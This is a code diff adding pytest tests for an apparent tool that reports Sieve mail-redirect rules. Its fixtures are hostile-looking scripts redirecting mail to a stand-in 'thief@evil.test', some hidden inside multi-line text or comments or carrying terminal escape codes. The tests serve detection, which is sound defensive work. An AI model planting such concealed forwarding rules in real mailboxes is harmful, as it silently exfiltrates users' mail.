@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import time
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -37,6 +39,38 @@ def test_a_script_moves_nothing_on_the_screen(tmp_path: Path) -> None:
     (tmp_path / ".dovecot.sieve").write_text('redirect "\x1b[2Jthief@evil.test";')
     (line,) = sessions.redirects(str(tmp_path))
     assert line.isprintable()
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "redirect text:\nthief@evil.test\n.\n;",
+        "redirect :copy text: # where to\r\nthief@evil.test\r\n.\r\n;",
+        'vacation text:\nHe said: "\n.\n;\nredirect "thief@evil.test";',
+        'vacation text:\n/* so to say\n.\n;\nredirect "thief@evil.test";',
+    ],
+)
+def test_a_text_of_several_lines_hides_no_redirect(tmp_path: Path, script: str) -> None:
+    (tmp_path / ".dovecot.sieve").write_text(script, newline="")
+    assert [line.split()[-1] for line in sessions.redirects(str(tmp_path))] == ["thief@evil.test"]
+
+
+@pytest.mark.parametrize("piece", ["/* ", '"\\', 'text:\n"', 'x "\\"', "#/*\n/"])
+def test_nobody_is_kept_waiting_by_a_script(tmp_path: Path, piece: str) -> None:
+    (tmp_path / ".dovecot.sieve").write_text(piece * (100_000 // len(piece)))
+    began = time.process_time()
+    assert sessions.redirects(str(tmp_path)) == []
+    assert time.process_time() - began < 2
+
+
+def test_links_and_pipes_in_place_of_a_script_are_not_read(tmp_path: Path) -> None:
+    (tmp_path / "sieve").mkdir()
+    os.mkfifo(tmp_path / "sieve/pipe.sieve")
+    (tmp_path / "secret").write_text('redirect "secret@example.test";')
+    (tmp_path / "sieve/link.sieve").symlink_to(tmp_path / "secret")
+    link, pipe = sessions.redirects(str(tmp_path))
+    assert "link.sieve cannot be read" in link
+    assert "pipe.sieve cannot be read" in pipe
 
 
 def test_a_script_that_cannot_be_read_is_said(tmp_path: Path) -> None:
